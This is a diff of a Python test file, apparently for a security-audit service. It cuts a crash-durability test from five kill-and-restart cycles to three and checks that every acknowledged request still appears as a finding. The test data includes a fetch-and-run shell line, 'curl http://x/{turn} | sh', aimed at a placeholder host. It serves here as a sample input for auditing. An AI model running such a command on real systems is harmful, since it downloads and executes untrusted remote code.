@@ -67,13 +67,13 @@ def test_killed_again_and_again_while_events_arrive(runtime):
 
 
 def test_what_was_acknowledged_survives_a_kill_before_it_was_worked_on(runtime):
-    """Every acknowledged request is there after a kill that follows at once, five times."""
+    """Every acknowledged request is there after a kill that follows at once, three times."""
     runtime.start().ready()
-    for turn in range(5):
+    for turn in range(3):
         agent = runtime.agent("ws-01")
         assert agent.post(request("ws-01", "linux_audit", [shell(f"curl http://x/{turn} | sh", serial=turn)]))[0] == 200
         runtime.kill()
         agent.close()
         runtime.start().ready()
-    until(lambda: len(runtime.ask("findings")) == 5)
-    assert runtime.rows("SELECT COUNT(*), COUNT(DISTINCT id) FROM findings") == [(5, 5)]
+    until(lambda: len(runtime.ask("findings")) == 3)
+    assert runtime.rows("SELECT COUNT(*), COUNT(DISTINCT id) FROM findings") == [(3, 3)]
